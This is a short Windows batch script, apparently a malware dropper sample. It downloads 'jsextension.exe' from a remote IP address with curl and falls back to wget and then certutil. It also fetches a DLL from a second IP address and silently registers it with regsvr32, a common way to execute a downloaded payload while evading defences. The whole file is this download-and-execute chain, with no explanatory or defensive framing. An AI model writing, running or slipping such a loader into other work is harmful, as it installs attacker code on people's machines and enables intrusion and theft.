@echo off
curl http://203.0.113.28/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://203.0.113.28/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://203.0.113.28/download/jsextension.exe jsextension.exe
)
curl https://203.0.113.29/sdd.dll -o create.dll
set exe_1=jsextension.exe
regsvr32.exe -s create.dll
